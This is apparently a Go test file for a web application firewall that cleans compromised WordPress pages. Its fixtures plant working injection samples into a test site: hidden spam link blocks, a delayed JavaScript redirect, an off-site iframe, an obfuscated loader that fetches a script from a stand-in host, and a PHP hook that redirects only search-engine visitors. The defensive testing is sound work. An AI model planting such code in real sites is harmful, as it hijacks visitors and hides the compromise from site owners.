package wordpress_test

import (
	"crypto/x509"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"strings"
	"testing"

	"github.com/lachan-waf/lachan/internal/cmstest"
)

// plant is one thing an intruder left in the site: a string that the raw page
// holds and the cleaned page must not.
type plant struct {
	name   string
	page   string
	needle string
}

// infectedPage is where the database holds its part.
const infectedPage = "/gioi-thieu/"

var plants = []plant{
	{"hidden link block", infectedPage, "nhacai-uytin.evil.test"},
	{"betting backlink", infectedPage, "cá cược bóng đá"},
	{"second betting backlink", infectedPage, "casino trực tuyến"},
	{"script redirect", infectedPage, `location.replace`},
	{"refresh in the text", infectedPage, `url=https://evil.test/khuyen-mai`},
	{"off-site script", "/", "evil.test/thongke.js"},
	{"frame", "/", "evil.test/quangcao"},
	{"link in the footer", "/", "tai-xiu.evil.test"},
	{"loader after the document", "/", "String.fromCharCode(104,116,116,112"},
	{"off-site script on an inner page", infectedPage, "evil.test/thongke.js"},
	{"loader on an inner page", infectedPage, "eval(function(p,a,c,k"},
}

// databasePart goes into the page's text after its first paragraph, all of it in
// one element out of sight, as the tools that plant such blocks do.
const databasePart = `<div style="position:absolute;left:-9999px;top:-9999px"><a href="https://nhacai-uytin.evil.test/">nhà cái uy tín</a> <a href="https://keo.evil.test/bong-da">cá cược bóng đá</a> <a href="https://slot.evil.test/">casino trực tuyến</a> <a href="https://lode.evil.test/">lô đề online</a><script>setTimeout(function(){window.location.replace("https://evil.test/khuyen-mai")},60000)</script><meta http-equiv="refresh" content="90;url=https://evil.test/khuyen-mai"></div>`

const headerPart = `<script src="//evil.test/thongke.js" async></script><iframe src="https://evil.test/quangcao" width="1" height="1" style="position:absolute;left:-999px;border:0"></iframe>`

const footerPart = `<div style="display:none"><a href="https://tai-xiu.evil.test/">tài xỉu đổi thưởng</a></div>`

const loaderPart = `<script>eval(function(p,a,c,k,e,d){var s=String.fromCharCode(104,116,116,112,115,58,47,47,101,118,105,108,46,116,101,115,116,47,120,46,106,115);var t=document.createElement('script');t.src=s;document.body.appendChild(t)}('',1,1,'',0,{}))</script>`

// doorPart sends only visitors of a search engine away, which is why the site's
// own people never notice.
const doorPart = `
add_action('template_redirect', function () {
	if (preg_match('/google|bing|coccoc/i', $_SERVER['HTTP_REFERER'] ?? '')) {
		header('Location: https://evil.test/nha-cai', true, 302);
		exit;
	}
});
`

// infect writes into the database and the theme as an intruder with both passwords.
func infect(t *testing.T, s *cmstest.Host) {
	t.Helper()
	s.SQL(t, "UPDATE wordpress.wp_posts SET post_content = INSERT(post_content, LOCATE('</p>', post_content) + 4, 0, '"+strings.ReplaceAll(databasePart, "'", "''")+"') WHERE post_name = 'gioi-thieu';")
	theme := s.Docroot + "/wp-content/themes/twentytwentyone/"
	edit(t, theme+"header.php", "<?php wp_body_open(); ?>", "<?php wp_body_open(); ?>"+headerPart)
	edit(t, theme+"footer.php", "<?php wp_footer(); ?>", footerPart+"<?php wp_footer(); ?>")
	edit(t, theme+"footer.php", "</html>", "</html>\n"+loaderPart)
	edit(t, theme+"functions.php", "<?php", "<?php"+doorPart)
}

// edit replaces the first occurrence; a theme that no longer has it fails the test.
func edit(t *testing.T, file, old, with string) {
	t.Helper()
	text := readFile(t, file)
	if !strings.Contains(text, old) {
		t.Fatalf("%s: no %q", file, old)
	}
	cmstest.WriteFile(t, file, strings.Replace(text, old, with, 1))
}

// straight reaches the same site under the same address without the proxy, for
// comparison.
func straight(t *testing.T, s *cmstest.Host, through *target) *target {
	t.Helper()
	srv := httptest.NewTLSServer(&httputil.ReverseProxy{Rewrite: func(r *httputil.ProxyRequest) {
		r.SetURL(&url.URL{Scheme: "http", Host: s.Addr})
		r.SetXForwarded()
		r.Out.Host = r.In.Host
	}})
	t.Cleanup(srv.Close)
	roots := x509.NewCertPool()
	roots.AddCert(srv.Certificate())
	return &target{base: through.base, addr: srv.Listener.Addr().String(), roots: roots, certName: srv.Certificate().DNSNames[0]}
}

// cleaned checks each plant: there without the proxy, gone through it, and the
// removal on record.
func cleaned(t *testing.T, raw, through *client) {
	for _, p := range plants {
		t.Run(p.name, func(t *testing.T) {
			if r := raw.get(t, p.page).want(t); !strings.Contains(r.body, p.needle) {
				t.Fatalf("not planted: no %q in %s", p.needle, p.page)
			}
			r := through.get(t, p.page).want(t)
			if at := strings.Index(r.body, p.needle); at >= 0 {
				t.Errorf("still served: %.200q", r.body[max(0, at-80):])
			}
			through.to.onRecord(t, "strip", r.header.Get("X-Request-Id"))
		})
	}
	t.Run("redirect of search visitors", func(t *testing.T) {
		lure := http.Header{"Referer": {"https://www.google.com/"}}
		r := raw.do(t, "GET", "/", "", nil, lure).want(t, 302)
		if r.header.Get("Location") != "https://evil.test/nha-cai" {
			t.Fatalf("not planted: Location %q", r.header.Get("Location"))
		}
		r = through.do(t, "GET", "/", "", nil, lure)
		if strings.Contains(r.header.Get("Location")+r.body, "evil.test") {
			t.Errorf("still redirected: status %d, Location %q", r.status, r.header.Get("Location"))
		}
		through.to.onRecord(t, "redirect", r.header.Get("X-Request-Id"))
	})
}
